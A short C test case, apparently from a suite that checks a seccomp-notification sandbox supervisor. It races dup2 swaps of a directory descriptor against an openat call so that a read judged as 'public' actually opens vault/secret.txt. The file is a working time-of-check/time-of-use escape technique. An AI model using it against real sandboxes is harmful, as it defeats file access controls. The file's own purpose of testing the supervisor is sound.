/* technique: replaces the directory descriptor of an openat while it is judged
 * source: dup2(2); seccomp_unotify(2): the arguments are numbers of the caller
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * races: 2
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include "race.h"

static int vault, public;

__attribute__((constructor)) static void open_both(void)
{
	vault = open("vault", O_PATH);
	public = open("public", O_PATH);
	dup2(public, 100);
}

static void swap(bool forbidden)
{
	dup2(forbidden ? vault : public, 100);
}

static void attempt(void)
{
	int fd = openat(100, "secret.txt", O_RDONLY);
	if (fd >= 0)
		show(fd);
}

int main(void)
{
	return race(swap, attempt);
}
